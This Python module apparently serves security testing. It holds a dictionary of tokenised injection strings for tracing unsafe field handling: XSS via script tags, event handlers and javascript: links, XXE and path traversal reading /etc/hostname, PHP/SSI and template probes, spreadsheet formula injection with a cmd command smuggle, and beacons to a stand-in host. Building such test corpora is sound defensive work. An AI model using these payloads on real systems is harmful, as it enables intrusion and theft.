"""Texts that run, fetch, leave their place or break a file wherever one of them is taken for more than text.

Each is made for one field: it carries the field's token, so that whatever comes of it can be traced back.
"""

CALL = "attack('{t}')"

# Name, and the text with {t} for the token and {c} for a call that would tell of it.
TEXTS = {
    "element": '{t}<script>{c}</script>',
    "every end": '{t}</script></style></title></textarea></noscript></template></select><img src=x onerror={c}>',
    "end of drawing": "{t}</text></svg><svg><script>{c}</script><animate onbegin={c} attributeName=x dur=1s>",
    "double quotes": '{t}" autofocus tabindex=0 onfocus="{c}" x="',
    "single quotes": "{t}' autofocus tabindex=0 onfocus=attack(`{t}`) x='",
    "no quotes": "{t} onmouseover=attack(`{t}`) ",
    "end of tag": '{t}"/><svg/onload={c}>',
    "slash for space": "{t}<img/src=x/onerror={c}//",
    "comment": "{t}--!><img src=x onerror={c}><!--",
    "processing": "{t}<?x ><img src=x onerror={c}>?>",
    "section": "{t}]]><html xmlns='http://www.w3.org/1999/xhtml'><script>{c}</script></html><![CDATA[",
    "entity": '{t}<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/hostname">]>&e;',
    "foreign content": '{t}<math><mtext><style><!--</style><img title="--&gt;&lt;img src=x onerror={c}&gt;">',
    "once decoded": "{t}&lt;script&gt;{c}&lt;/script&gt;&#60;img src=x onerror={c}&#62;",
    "twice decoded": "{t}&amp;lt;script&amp;gt;{c}&amp;lt;/script&amp;gt;",
    "address codes": "{t}%22%3E%3Cscript%3E{c}%3C/script%3E",
    "seven bits": "{t}+ADw-script+AD4-{c}+ADw-/script+AD4-",
    "script address": "javascript:{c}//{t}",
    "hidden script address": " jAvA\tscript&#58;{c}//{t}",
    "data address": "data:text/html,<script>{c}</script>{t}",
    "link": "{t} [press](javascript:{c}) [press](java&#x73;cript:{c}) <javascript:{c}>",
    "link in brackets": "{t} [a](<javascript:{c}>) [b](\\javascript:{c}) ![c](data:image/svg+xml,<svg/onload={c}>)",
    "link with title": '{t} [a](/b "x\\" onmouseover={c} y=\\"") ![a" onerror={c} b="](x)',
    "reference": "{t} [press] [press]: javascript:{c} \"{t}\"",
    "heading attributes": "{t} {{#x onclick={c}}} {{: onclick={c}}}",
    "foreign picture": "{t} ![a](https://elsewhere.invalid/{t}.png) <img src=//elsewhere.invalid/{t}>",
    "foreign style": "{t}</style><link rel=stylesheet href=//elsewhere.invalid/{t}.css><style>*{{background:url(//elsewhere.invalid/{t})}}",
    "refresh": '{t}"><meta http-equiv=refresh content="0;url=//elsewhere.invalid/{t}"><base href="//elsewhere.invalid/">',
    "form": '{t}"><form action=//elsewhere.invalid/><button formaction=javascript:{c} autofocus>',
    "frame": '{t}"><iframe srcdoc="<script>parent.{c}</script>"></iframe><object data=javascript:{c}></object>',
    "string": '{t}");{c};("',
    "string with apostrophe": "{t}');{c};('",
    "backslash": '{t}\\");{c};//\\',
    "template string": "{t}${{{c}}}`;{c};`",
    "line ends of scripts": "{t}\u2028{c}//\u2029{c}//",
    "mustache": "{t}{{{{{{frame}}}}}}{{{{>partials/layout}}}}{{{{=<% %>=}}}}<%& head %>",
    "blanks": "{t} {{place}} {{0}} %s %n $& $1 \\1",
    "formula": '=HYPERLINK("https://elsewhere.invalid/{t}","{t}")',
    "command": "@SUM(1+1)*cmd|' /C {t}'!A0",
    "formula behind space": "\t=1+{t}",
    "minus": "-2+3+cmd|{t}",
    "full-width formula": "\uff1d1\uff0b1|{t}",
    "semicolon": '{t};=1+1;"x',
    "new cell": '{t}","=1+1","',
    "new line": "{t}\r\n=1+1,2\nBEGIN:VALARM\r\nATTENDEE:mailto:x@elsewhere.invalid\r\nSet-Cookie: {t}",
    "calendar": "{t}\\nEND:VEVENT\\nATTACH:https://elsewhere.invalid/",
    "terminal": "{t}\x1b]0;{t}\x07\x1b[2J\x9b31m",
    "other direction": "{t}\u202etpircs\u2066\u2067",
    "unseen": "{t}\u200b\ufeff\u00ad\u2060<\u200bscript>{c}</script>",
    "combined": "{t}<\u0338script>{c}<\u0338/script>",
    "folders": "../../../../{t}/../../etc/hostname",
    "other folders": "..\\..\\{t}\\..\\CON",
    "server": "{t}<!--#include virtual=\"/etc/hostname\" --><?php {c} ?>",
    "long": "{t}" + "<b>&" * 400,
}


def token(number):
    return f"zq{number}k"


def payload(name, number):
    return TEXTS[name].format(t=token(number), c=CALL.format(t=token(number)))
